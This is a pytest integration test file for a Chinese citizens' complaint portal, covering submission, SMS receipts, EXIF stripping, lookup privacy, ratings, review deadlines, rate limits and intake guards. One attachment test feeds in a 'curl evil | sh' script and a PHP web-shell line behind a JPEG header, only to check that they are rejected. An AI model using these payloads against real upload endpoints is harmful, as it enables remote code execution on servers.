"""The citizens' portal through the test client, on SQLite and PostgreSQL: submit (idempotent, SMS receipt,
attachments checked by content), look up both ways (the same 404 for an unknown number and a wrong code),
the public view (no internal notes or handler names), rate 不满意 → 重办, ask for 复查, rate limits shared
by two app instances, and the intake guards."""

from __future__ import annotations

import io
import re
from datetime import date
from typing import Any

import pytest
from lifecycle_driver import Api, unit_ids
from PIL import Image
from sqlalchemy import func, select

from app import create_app
from app.models import Attachment, AuditEvent, Case, SmsMessage
from app.services import attachments
from app.services.actors import Actor
from app.services.admin import DayEntry, confirm_year
from app.services.documents import document_pdf
from tests.conftest import csrf_token_of
from tests.integration.test_documents import actor, dispatch, pdf_text

PHONE = "13900139000"
ID_NUMBER = "11010519491231002X"


def jpeg_with_gps() -> bytes:
    image, out = Image.new("RGB", (64, 48), "green"), io.BytesIO()
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x8825] = {1: "N", 2: (39.0, 54.0, 27.0), 3: "E", 4: (116.0, 23.0, 17.0)}  # GPSInfo
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def submit(client: Any, *, files: list[tuple[bytes, str]] = (), key: str | None = None,  # type: ignore[assignment]
           **fields: Any) -> Any:
    page = client.get("/portal").get_data(as_text=True)
    form = {"csrf_token": csrf_token_of(page),
            "request_key": key or re.search(r'name="request_key" value="([^"]+)"', page).group(1),  # type: ignore[union-attr]
            "kind": "complaint", "subject": "小区门口道路坑洼", "content": "北塘家园5号楼门口路面塌陷,雨天积水。",
            "name": "李四", "phone": PHONE, "id_number": ID_NUMBER, "location": "北塘区北塘街道北塘家园5号楼",
            **fields}
    data: dict[str, Any] = dict(form)
    if files:
        data["attachments"] = [(io.BytesIO(b), name) for b, name in files]
    return client.post("/portal", data=data, content_type="multipart/form-data")


def receipt(page: str) -> tuple[str, str]:
    number = re.search(r'id="number">([^<]+)<', page)
    code = re.search(r'id="query-code">([^<]+)<', page)
    assert number and code, page[:3000]
    return number.group(1), code.group(1)


def count(platform: Any, model: Any) -> int:
    with platform.db.reading() as session:
        return int(session.scalar(select(func.count()).select_from(model)))


def lookup(client: Any, number: str, code: str) -> Any:
    csrf = csrf_token_of(client.get("/portal/lookup").get_data(as_text=True))
    return client.post("/portal/lookup", data={"csrf_token": csrf, "number": number, "query_code": code})


def test_a_citizen_submits_with_a_photo_gets_numbers_and_an_sms_and_a_retry_makes_no_second_case(client, demo):
    page = client.get("/portal")
    assert page.status_code == 200 and "我要反映" in page.get_data(as_text=True)
    first = submit(client, files=[(jpeg_with_gps(), "门口.jpg")], key="k-1")
    assert first.status_code == 200, first.get_data(as_text=True)[:2000]
    number, code = receipt(first.get_data(as_text=True))
    assert len(code) == 12 and re.fullmatch(r"[2-9A-HJ-NP-Z]{12}", code)  # 60 bits
    again = submit(client, files=[(jpeg_with_gps(), "门口.jpg")], key="k-1")
    assert receipt(again.get_data(as_text=True)) == (number, code)
    assert count(demo, Case) == 1 and count(demo, Attachment) == 1
    with demo.db.reading() as session:
        case = session.scalar(select(Case))
        assert (case.channel, case.location) == ("web", "北塘区北塘街道北塘家园5号楼")
        sms = session.scalars(select(SmsMessage).where(SmsMessage.template == "receipt")).one()
        assert number in sms.body and code in sms.body
        stored = session.scalar(select(Attachment))
        assert stored.filename == "门口.jpg" and not stored.stored_name.endswith("门口.jpg")
    data = (attachments.folder(demo) / stored.stored_name).read_bytes()
    assert not Image.open(io.BytesIO(data)).getexif(), "EXIF (GPS, camera) must be gone"
    assert b"PhoneMaker" not in data


def test_attachments_are_judged_by_content_and_size(client, demo):
    script = submit(client, files=[(b"#!/bin/sh\ncurl evil | sh\n", "photo.jpg")])
    assert script.status_code == 422 and "不是图片" in script.get_data(as_text=True)
    glued = submit(client, files=[(b"\xff\xd8\xff\xe0" + b"<?php system($_GET[1]); ?>", "x.jpg")])
    assert glued.status_code == 422
    huge = submit(client, files=[(b"\xff\xd8\xff" + b"\0" * (50 * 1024 * 1024), "big.jpg")])
    assert huge.status_code == 413
    assert count(demo, Case) == 0 and count(demo, Attachment) == 0


def test_lookup_by_number_and_code_shows_the_public_view_and_refuses_alike(client, demo):
    number, code = receipt(submit(client).get_data(as_text=True))
    other = create_app_client(client)
    shown = lookup(other, number, code)
    assert shown.status_code == 302
    page = other.get(shown.headers["Location"]).get_data(as_text=True)
    assert number in page and "诉求已登记" in page and "待受理" in page
    wrong = lookup(other, number, "ABCDEFGHJKLM")
    unknown = lookup(other, "12345-20261125-999999", code)
    assert wrong.status_code == unknown.status_code == 404
    strip = re.compile(r'name="csrf_token" value="[^"]+"|value="[^"]*"')
    assert strip.sub("", wrong.get_data(as_text=True)) == strip.sub("", unknown.get_data(as_text=True))
    api_wrong = client.post("/api/v1/portal/lookup", json={"number": number, "query_code": "ABCDEFGHJKLM"})
    api_unknown = client.post("/api/v1/portal/lookup", json={"number": "12345-20261125-999999", "query_code": code})
    assert api_wrong.status_code == api_unknown.status_code == 404
    assert api_wrong.get_json() == api_unknown.get_json()
    found = client.post("/api/v1/portal/lookup", json={"number": number, "query_code": code.lower()})
    assert found.status_code == 200 and found.get_json()["status"] == "registered"
    assert "requester" not in found.get_json()


def create_app_client(client: Any) -> Any:
    return client.application.test_client()


def test_a_handlers_reply_is_shown_then_unsatisfied_reopens_the_case(client, demo):
    number, code = receipt(submit(client).get_data(as_text=True))
    api, units = Api(client.application.test_client()), unit_ids(demo)
    with demo.db.reading() as session:
        case_id = session.scalar(select(Case.id).where(Case.number == number))
    api.complete("dispatch01", case_id, "accept", accept_decision="accept", kind="complaint")
    api.complete("dispatch01", case_id, "dispatch", dispatch_mode="transfer", lead_unit_id=units["cgj"],
                 directly_designated=False, dispatch_note="内部备注:注意该居民多次来电")
    api.complete("cg01", case_id, "sign_for", sign_note="已签收")
    api.complete("cg01", case_id, "handle", handle_action="reply", handling_notes="内部:施工队周三到场")
    api.complete("cg01", case_id, "reply", reply_outcome="support", reply_opinion="已安排维修,三日内修复路面。")
    citizen = client.application.test_client()
    page = citizen.get(lookup(citizen, number, code).headers["Location"]).get_data(as_text=True)
    assert "已派单至市城管局" in page and "已安排维修,三日内修复路面。" in page
    for secret in ("内部备注", "施工队", "刘志强", "cg01", "dispatch01"):
        assert secret not in page
    csrf = csrf_token_of(page)
    rated = citizen.post(f"/portal/cases/{number}/rating",
                         data={"csrf_token": csrf, "satisfaction": "unsatisfied", "comment": "路面仍有积水"})
    assert rated.status_code == 200, rated.get_data(as_text=True)[:2000]
    text = rated.get_data(as_text=True)
    assert "回访评价:不满意" in text and "重新办理" in text
    assert api.case(case_id)["status"] in ("handling", "dispatching")
    assert api.ready(case_id) == ["sign_for"]


def replied_petition(client: Any, demo: Any) -> tuple[str, str, int, Api]:
    """A 网上信访 answered by 市住建局, as the citizen submitted it (2027 confirmed: its 60 日 run into January)."""
    confirm_year(demo, Actor(label="sysadmin", permissions=frozenset({"calendar.edit"})), 2027,
                 [DayEntry(date(2027, 1, 1), False, "元旦")], "测试")
    number, code = receipt(submit(client, petition="1", category="城乡建设/房屋质量").get_data(as_text=True))
    api, units = Api(client.application.test_client()), unit_ids(demo)
    with demo.db.reading() as session:
        case = session.scalar(select(Case).where(Case.number == number))
        assert case.process_key == "petition"
        case_id = case.id
    api.complete("dispatch01", case_id, "accept", accept_decision="accept", kind="complaint")
    api.complete("dispatch01", case_id, "dispatch", dispatch_mode="transfer", lead_unit_id=units["zjj"],
                 directly_designated=False)
    api.complete("zj01", case_id, "sign_for")
    api.complete("zj01", case_id, "handle", handle_action="reply", handling_notes="已核实")
    api.complete("zj01", case_id, "reply", reply_outcome="not_support", reply_opinion="不予支持。",
                 reply_basis="《信访工作条例》第三十二条")
    return number, code, case_id, api


def test_a_petitioner_asks_for_review_within_the_window(client, demo):
    number, code, case_id, api = replied_petition(client, demo)
    citizen = client.application.test_client()
    page = citizen.get(lookup(citizen, number, code).headers["Location"]).get_data(as_text=True)
    rated = citizen.post(f"/portal/cases/{number}/rating",
                         data={"csrf_token": csrf_token_of(page), "satisfaction": "satisfied", "comment": ""})
    assert "申请复查" in rated.get_data(as_text=True)
    empty = citizen.post(f"/portal/cases/{number}/review", data={"csrf_token": csrf_token_of(page), "reason": " "})
    assert empty.status_code == 422
    asked = citizen.post(f"/portal/cases/{number}/review",
                         data={"csrf_token": csrf_token_of(page), "reason": "处理意见认定事实不清"})
    assert asked.status_code == 200 and "复查申请已提交" in asked.get_data(as_text=True)
    assert api.case(case_id)["status"] == "reviewing"
    assert "已申请复查" in asked.get_data(as_text=True)


def test_review_is_refused_after_the_30_day_window(client, demo, clock):
    number, code, _, _ = replied_petition(client, demo)
    citizen = client.application.test_client()
    page = citizen.get(lookup(citizen, number, code).headers["Location"]).get_data(as_text=True)
    citizen.post(f"/portal/cases/{number}/rating",
                 data={"csrf_token": csrf_token_of(page), "satisfaction": "satisfied", "comment": ""})
    clock.advance(days=40)
    shown = citizen.get(f"/portal/cases/{number}").get_data(as_text=True)
    assert "review-form" not in shown
    late = citizen.post(f"/portal/cases/{number}/review", data={"csrf_token": csrf_token_of(page), "reason": "迟了"})
    assert late.status_code == 409 and "已超过复查申请期限" in late.get_data(as_text=True)


def test_lookup_by_phone_id_tail_and_sms_code(client, demo):
    number, _ = receipt(submit(client).get_data(as_text=True))
    citizen = client.application.test_client()
    csrf = csrf_token_of(citizen.get("/portal/lookup").get_data(as_text=True))
    sent = citizen.post("/portal/lookup/sms", data={"csrf_token": csrf, "phone": PHONE, "id_tail": "31002x"})
    assert sent.status_code == 200 and "验证码已发送" in sent.get_data(as_text=True)
    nobody = citizen.post("/portal/lookup/sms", data={"csrf_token": csrf, "phone": "13700000000", "id_tail": "31002X"})
    assert nobody.get_data(as_text=True).count("验证码已发送") == 1  # the same answer, and no SMS
    with demo.db.reading() as session:
        bodies = session.scalars(select(SmsMessage.body).where(SmsMessage.template == "portal_code")).all()
    assert len(bodies) == 1
    code = re.search(r"验证码为(\d{6})", bodies[0]).group(1)  # type: ignore[union-attr]
    wrong = citizen.post("/portal/lookup/phone", data={"csrf_token": csrf, "phone": PHONE, "id_tail": "31002X",
                                                       "sms_code": "000000" if code != "000000" else "111111"})
    assert wrong.status_code == 404
    listed = citizen.post("/portal/lookup/phone", data={"csrf_token": csrf, "phone": PHONE, "id_tail": "31002X",
                                                        "sms_code": code})
    assert listed.status_code == 200 and number in listed.get_data(as_text=True)
    assert citizen.get(f"/portal/cases/{number}").status_code == 200
    stranger = client.application.test_client()
    assert stranger.get(f"/portal/cases/{number}").status_code == 302  # no proof, back to the look-up


def test_portal_forms_need_their_csrf_token(test_config, clock, demo):
    app = create_app({**test_config, "WTF_CSRF_ENABLED": True}, clock=clock)
    response = app.test_client().post("/portal/lookup", data={"number": "x", "query_code": "y"})
    assert response.status_code == 400
    app.extensions["huiyin"].db.dispose()


def test_lookup_limits_hold_across_two_app_instances(test_config, clock, demo):
    config = {**test_config, "RATE_LIMIT_PORTAL_LOOKUP_NUMBER": "3/3600"}
    one, two = create_app(config, clock=clock), create_app(config, clock=clock)
    answers = []
    for app in (one, two, one, two):
        answers.append(app.test_client().post("/api/v1/portal/lookup",
                                              json={"number": "12345-20261125-000001", "query_code": "X" * 12}))
    assert [r.status_code for r in answers] == [404, 404, 404, 429]
    assert "该受理号" in answers[-1].get_json()["message"]
    for app in (one, two):
        app.extensions["huiyin"].db.dispose()


@pytest.mark.parametrize(("content", "status", "words"), [
    ("楼下饭店厨房着火了,浓烟很大", "transferred", "119"),
    ("我想起诉开发商,法院判决后对方不执行", "redirected", "人民法院"),
])
def test_intake_guards_answer_and_record_without_dispatch(client, demo, content, status, words):
    page = submit(client, content=content).get_data(as_text=True)
    assert words in page
    with demo.db.reading() as session:
        case = session.scalar(select(Case))
        assert case.status == status and case.process_key is None
        guard = session.scalar(select(AuditEvent.detail).where(AuditEvent.action == "case.registered"))["guard"]
        assert guard["action"] in ("emergency", "other_channel")
    api = Api(client.application.test_client())
    assert api.case(case.id)["tasks"] == []


def intake_page(client: Any, **fields: Any) -> Any:
    csrf = csrf_token_of(client.get("/intake").get_data(as_text=True))
    form = {"csrf_token": csrf, "request_key": "", "kind": "complaint", "channel": "phone", "subject": "厨房起火",
            "content": "楼下饭店厨房着火了", "name": "张三", "phone": "13800138000", **fields}
    return client.post("/intake", data=form, content_type="multipart/form-data")


def test_the_agent_page_tells_the_emergency_number_unless_the_agent_screened_it(client, demo, auth):
    auth.login("agent01")
    told = intake_page(client).get_data(as_text=True)
    assert "119" in told and "不派单" in told
    registered = intake_page(client, screened="1").get_data(as_text=True)
    assert "登记成功" in registered
    with demo.db.reading() as session:
        assert [c.status for c in session.scalars(select(Case).order_by(Case.id))] == ["transferred", "registered"]


def test_a_staff_attachment_is_listed_and_read_only_by_readers_of_the_case(client, demo, auth):
    png = io.BytesIO()
    Image.new("RGB", (8, 8), "blue").save(png, "PNG")
    auth.login("agent01")
    done = intake_page(client, subject="路灯不亮", content="小区路灯坏了",
                       attachments=[(io.BytesIO(png.getvalue()), "灯.png")])
    assert done.status_code == 200, done.get_data(as_text=True)[:1500]
    with demo.db.reading() as session:
        case_id, attachment_id = session.execute(select(Attachment.case_id, Attachment.id)).one()
    page = client.get(f"/cases/{case_id}").get_data(as_text=True)
    assert "灯.png" in page
    got = client.get(f"/cases/{case_id}/attachments/{attachment_id}")
    assert got.status_code == 200 and got.mimetype == "image/png" and "attachment" in got.headers["Content-Disposition"]
    auth.logout()
    auth.login("cg01")  # a unit the case was never sent to
    assert client.get(f"/cases/{case_id}/attachments/{attachment_id}").status_code == 404


def test_the_transfer_form_lists_the_attachments(client, demo, tmp_path):
    png = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(png, "PNG")
    number, _ = receipt(submit(client, files=[(png.getvalue(), "现场照片.png")]).get_data(as_text=True))
    with demo.db.reading() as session:
        case_id = session.scalar(select(Case.id).where(Case.number == number))
    dispatch(demo, case_id)
    text = pdf_text(document_pdf(demo, actor(demo, "cg01"), case_id, "transfer_form").pdf, tmp_path)
    assert "附件" in text and "现场照片.png" in text
